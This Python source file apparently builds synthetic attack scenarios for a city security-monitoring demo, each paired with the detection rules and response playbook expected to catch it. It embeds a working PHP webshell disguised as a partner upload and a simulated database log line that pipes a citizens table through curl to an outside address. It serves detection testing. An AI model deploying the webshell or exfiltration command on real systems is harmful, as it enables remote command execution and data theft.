"""Attacks injected into the demo week, each with its ground truth.

A scenario is raw log lines and/or packets (the attack as the devices would record it),
the time of its first malicious event, and what should catch it: the rule ids that
detect it (any of them counts; all that fire are shown) and the playbook that should
answer. Rule ids are the ones the packs publish: Sigma ids from
``detections/rules/sigma``, ``net:*`` from ``detections/network``, ``yara:*`` from
``detections/rules/yara``, ``asset:*`` from ``core.assets``.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from citysoc.demo.city import VMS_IP, City
from citysoc.demo.normal import Line, access, dahua, job, pg

__all__ = ["Scenario", "build_scenarios", "WEBSHELL"]

ATTACKER = "203.0.113.66"
C2 = "198.51.100.23"
UNMANAGED_IP = "10.20.3.250"

WEBSHELL = (b"<?php\n/* partner upload: traffic counts Q4 */\n$ok = 1;\n"
            b"if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; }\n?>\n")


@dataclass
class Scenario:
    id: str
    title: str
    start: float
    """Time of the first malicious event (epoch seconds)."""
    expect_rules: list[str]
    """Rule ids (or ``prefix*``) that detect it."""
    expect_playbook: str | None = None
    lines: list[Line] = field(default_factory=list)
    flows: list[dict[str, Any]] = field(default_factory=list)
    """Packet recipes for the scenario's pcap (see :mod:`citysoc.demo.pcaps`)."""
    file_event: dict[str, Any] | None = None
    """A file-integrity event (ECS) for a file the scenario drops."""
    silent_host: str | None = None
    """Host name that stops logging at ``start``."""
    asset_id: str | None = None

    def matches_rule(self, rule_id: str) -> bool:
        return any(rule_id == r or (r.endswith("*") and rule_id.startswith(r[:-1])) for r in self.expect_rules)


def _pick(city: City, vendor: str, k: int) -> Any:
    cams = [c for c in city.cameras if c.tags[0] == vendor]
    return cams[k % len(cams)]


def build_scenarios(city: City, start: float, end: float, ingest_dir: str) -> list[Scenario]:
    """The attacks, placed in the last days of the week (after the baselines settled)."""
    day = 86400.0
    base = end - 2.5 * day
    out: list[Scenario] = []

    # 1. Mirai-style: telnet guessing, device login failures, then the factory account gets in.
    cam = _pick(city, "dahua", 1)
    t0 = base + 3 * 3600 + 17
    lines = [Line(t0 + 12 * i, dahua(t0 + 12 * i, cam.hostnames[0], f"[Account] Login Failed. User: admin, IP: "
                                                                     f"{ATTACKER}, Reason: Wrong Password", pri=12),
                  scenario="mirai-camera") for i in range(8)]
    lines.append(Line(t0 + 110, dahua(t0 + 110, cam.hostnames[0], f"[Account] User Login. User: 888888, IP: "
                                                                  f"{ATTACKER}, Client: Web"), scenario="mirai-camera"))
    out.append(Scenario(
        id="mirai-camera", title=f"Mirai-style telnet brute force + factory-account login on {cam.id}",
        start=t0 - 30, expect_rules=["9f8ae69a-72c0-4121-8e56-832435a8728f", "a7150a9d-efc1-431a-9e59-6bf44a1f9125",
                                     "net:brute_force"],
        expect_playbook="camera-bruteforce", lines=lines, asset_id=cam.id,
        flows=[{"kind": "telnet_guess", "src": ATTACKER, "dst": cam.ips[0], "start": t0 - 30, "count": 40}]))

    # 2. The compromised camera scans its neighbours.
    scam = _pick(city, "hikvision", 3)
    t1 = base + 5 * 3600 + 4
    out.append(Scenario(
        id="camera-portscan", title=f"Port scan from compromised camera {scam.id}", start=t1,
        expect_rules=["net:port_scan"], expect_playbook="camera-unknown-device", asset_id=scam.id,
        flows=[{"kind": "scan", "src": scam.ips[0], "dst_net": "10.20.0.", "start": t1, "hosts": 30, "ports": 40}]))

    # 3. A camera talks to a new outside address.
    ecam = _pick(city, "hikvision", 7)
    t2 = base + 9 * 3600 + 41
    out.append(Scenario(
        id="camera-egress", title=f"Camera {ecam.id} talks to new outside address {C2}", start=t2,
        expect_rules=["net:camera_egress"], expect_playbook="camera-unknown-device", asset_id=ecam.id,
        flows=[{"kind": "egress", "src": ecam.ips[0], "dst": C2, "port": 443, "start": t2, "count": 6}]))

    # 4. Mass export by a service account, off-hours (02:14 in Ho Chi Minh City = 19:14 UTC).
    db = city.by_id["wh-db-01"]
    t3 = base + day - (base + day) % day + 19 * 3600 + 14 * 60
    out.append(Scenario(
        id="warehouse-mass-export", title="Warehouse mass export by service account svc_report at 02:14 local",
        start=t3, expect_rules=["c60c6af1-31a8-4d61-9d63-91f51671ae63", "5e3a2ee0-a37a-429b-a387-24e7235d1b9e"],
        expect_playbook="warehouse-account-abuse", asset_id=db.id,
        lines=[Line(t3, pg(t3, "svc_report@warehouse", 'LOG:  AUDIT: SESSION,1,1,READ,COPY,,,"COPY public.citizens TO '
                                                       "PROGRAM 'gzip | curl -T - http://198.51.100.23/u'\",<not logged>",
                           6101), via="file", scenario="warehouse-mass-export", addr=db.ips[0]),
               Line(t3 + 40, access(t3 + 40, "10.40.0.31", "GET /api/v1/datasets/citizens/export?format=csv", 200,
                                    734003200, user="svc_report"), via="file", scenario="warehouse-mass-export", addr="10.40.0.5")]))

    # 5. A privilege grant.
    t4 = t3 + 3 * 3600
    out.append(Scenario(
        id="warehouse-privilege-grant", title="Broad privilege grant to svc_report in the warehouse", start=t4,
        expect_rules=["e16efa7d-bb03-4616-b59e-4cc51602360d", "8bccf641-fb4b-49f9-a36d-4db0814dcfaa"],
        expect_playbook="warehouse-account-abuse", asset_id="wh-db-02",
        lines=[Line(t4, pg(t4, "dba@warehouse", 'LOG:  AUDIT: SESSION,1,1,ROLE,GRANT,,,"GRANT ALL PRIVILEGES ON ALL '
                                                'TABLES IN SCHEMA public TO svc_report WITH GRANT OPTION",<not logged>',
                           6202), via="file", scenario="warehouse-privilege-grant", addr="10.30.0.12")]))

    # 6. A webshell dropped in the warehouse ingest folder.
    t5 = t4 + 2 * 3600 + 7
    path = f"{ingest_dir.rstrip('/')}/partner_upload_traffic_q4.php"
    out.append(Scenario(
        id="warehouse-webshell", title="Webshell dropped in the warehouse ingest folder", start=t5,
        expect_rules=["yara:*"], expect_playbook="warehouse-ingest-yara", asset_id="etl-01",
        file_event={"kind": "event", "category": ["file"], "type": ["creation"], "action": "created",
                    "path": path, "time": t5}))

    # 7. A forecasting model overwritten outside any job.
    t6 = end - day + 4 * 3600 + 30 * 60
    out.append(Scenario(
        id="forecast-model-overwrite", title="Flood model overwritten from a workstation, no job", start=t6,
        expect_rules=["679b0e8a-6e2e-499f-8c3d-b3d5889bc8fb"], expect_playbook="forecasting-model-changed",
        asset_id="fc-gpu-02",
        lines=[Line(t6, job(t6, event="artifact_written", job_id=None, model="flood-v3", user="minh",
                            node="fc-gpu-02", artifact={"path": "/models/flood-v3/model.onnx", "size": 48211456,
                                                        "sha256": "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62"
                                                                  "a11ef721d1542d8"}),
                    via="file", scenario="forecast-model-overwrite")]))

    # 8. A warehouse database goes silent.
    t7 = end - 6 * 3600
    out.append(Scenario(
        id="warehouse-db-silent", title="Warehouse database wh-db-03 stops logging", start=t7,
        expect_rules=["asset:silent"], asset_id="wh-db-03", silent_host="wh-db-03"))  # silent_host: an asset id

    # 9. A device nobody inventoried appears on the camera network.
    t8 = base + 14 * 3600 + 3
    out.append(Scenario(
        id="unmanaged-device", title=f"Unmanaged device {UNMANAGED_IP} on the camera network", start=t8,
        expect_rules=["asset:unmanaged"], expect_playbook="camera-unknown-device",
        flows=[{"kind": "rtsp", "src": UNMANAGED_IP, "dst": VMS_IP, "start": t8, "count": 3}]))
    return out
